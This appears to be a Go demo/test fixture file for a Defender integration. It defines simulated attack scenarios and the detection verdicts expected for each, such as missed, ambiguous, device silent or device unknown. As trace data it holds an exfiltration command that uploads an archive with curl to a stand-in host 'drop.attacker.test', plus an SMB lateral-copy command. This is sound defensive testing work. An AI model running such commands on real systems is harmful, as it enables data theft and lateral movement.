package demo

import (
	"time"

	"defender-integration/defender/defendertest"
	integrationv1 "defender-integration/gen/defender/integration/v1"
)

// portsScanned is on a machine of which only an address is known, and two machines have that: nothing tells which is meant.
func portsScanned(first, second defendertest.Device, begins time.Duration) attack {
	found := func(device defendertest.Device, id string) func(began, now time.Time) defendertest.Alert {
		return finding{
			id: id, device: device, title: "Network scan from a workstation", technique: "T1046",
			processes: []process{{id: 1207, image: "scan.exe", command: "scan.exe 10.20.0.0/16", detection: "detected", remediation: "active"}},
		}.alert
	}
	return attack{
		title: "Ports scanned", begins: begins,
		actor: &integrationv1.Actor{ActorId: "vpn", IpAddresses: []string{vpnAddress}},
		steps: []step{
			{
				at: time.Second, told: "raises an alert on " + shortName(first.DNSName) + ", which has the address",
				alert: found(first, "da-demo-scan_1"),
			},
			{
				at: 2200 * time.Millisecond, told: "raises one on " + shortName(second.DNSName) + " too, which has it as well",
				alert: found(second, "da-demo-scan_2"),
			},
		},
		want: expectation{
			verdict: integrationv1.Verdict_VERDICT_CANNOT_JUDGE, reason: integrationv1.CannotJudgeReason_CANNOT_JUDGE_REASON_AMBIGUOUS,
			nearMiss: integrationv1.CountingCriterion_COUNTING_CRITERION_UNAMBIGUOUS, revisions: 2,
		},
	}
}

// copyOverSMB is missed: an alert of yesterday changes meanwhile, and does not count, since nothing of it happened during the attack; and
// telemetry, which is asked, holds nothing of the attack.
func copyOverSMB(device defendertest.Device, begins time.Duration) attack {
	return attack{
		title: "Copy over SMB", begins: begins, telemetry: true,
		actor:  &integrationv1.Actor{ActorId: "carla", HostName: device.DNSName},
		traces: byCommand(process{command: `cmd.exe /c copy tool.exe \\srv-files-01\c$\Temp`}),
		steps: []step{{
			at: 1500 * time.Millisecond, told: "changes an alert of yesterday: an analyst resolves it",
			alert: finding{
				id: "da-demo-yesterday_1", device: device, title: "Possible lateral movement", technique: "T1021.002",
				processes: []process{{
					id: 4711, image: "services.exe", command: `cmd.exe /c echo > \\.\pipe\sync`, started: -24*time.Hour - time.Minute,
					detection: "detected", remediation: "active",
				}},
				created: -24 * time.Hour, status: "resolved",
			}.alert,
		}},
		want: expectation{
			verdict:  integrationv1.Verdict_VERDICT_MISSED,
			nearMiss: integrationv1.CountingCriterion_COUNTING_CRITERION_ACTIVITY, revisions: 1,
			telemetry: &telemetryWanted{},
		},
	}
}

// archiveSentOut is missed: an alert on that machine and of that time is about something else, and the Director asks for a strong
// attribution.
func archiveSentOut(device defendertest.Device, begins time.Duration) attack {
	return attack{
		title: "Archive sent out", begins: begins,
		actor:         &integrationv1.Actor{ActorId: "ivy", FqHostName: device.DNSName},
		traces:        byProcess(process{id: 6250, command: "curl.exe -T archive.7z https://drop.attacker.test"}),
		minConfidence: integrationv1.Confidence_CONFIDENCE_STRONG,
		steps: []step{{
			at: 1200 * time.Millisecond, told: "raises an alert about something else on that machine",
			alert: finding{
				id: "da-demo-toolbar_1", device: device, title: "Unwanted software", technique: "T1176",
				processes: []process{{
					id: 1500, image: "toolbar.exe", command: "toolbar.exe --update now", detection: "detected", remediation: "active",
				}},
			}.alert,
		}},
		want: expectation{
			verdict:  integrationv1.Verdict_VERDICT_MISSED,
			nearMiss: integrationv1.CountingCriterion_COUNTING_CRITERION_CONFIDENCE, revisions: 1,
		},
	}
}

// keysLogged is on a machine whose sensor has been silent for days: that no alert came proves nothing.
func keysLogged(device defendertest.Device, begins time.Duration) attack {
	return attack{
		title: "Keys logged", begins: begins,
		actor: &integrationv1.Actor{ActorId: "finn", FqHostName: device.DNSName},
		want: expectation{
			verdict: integrationv1.Verdict_VERDICT_CANNOT_JUDGE, reason: integrationv1.CannotJudgeReason_CANNOT_JUDGE_REASON_DEVICE_SILENT,
		},
	}
}

// cookiesStolen is on a machine that Defender does not know.
func cookiesStolen(begins time.Duration) attack {
	return attack{
		title: "Cookies stolen", begins: begins,
		actor: &integrationv1.Actor{ActorId: "kiosk", FqHostName: "kiosk-17.corp.contoso.test"},
		want: expectation{
			verdict: integrationv1.Verdict_VERDICT_CANNOT_JUDGE, reason: integrationv1.CannotJudgeReason_CANNOT_JUDGE_REASON_DEVICE_UNKNOWN,
		},
	}
}
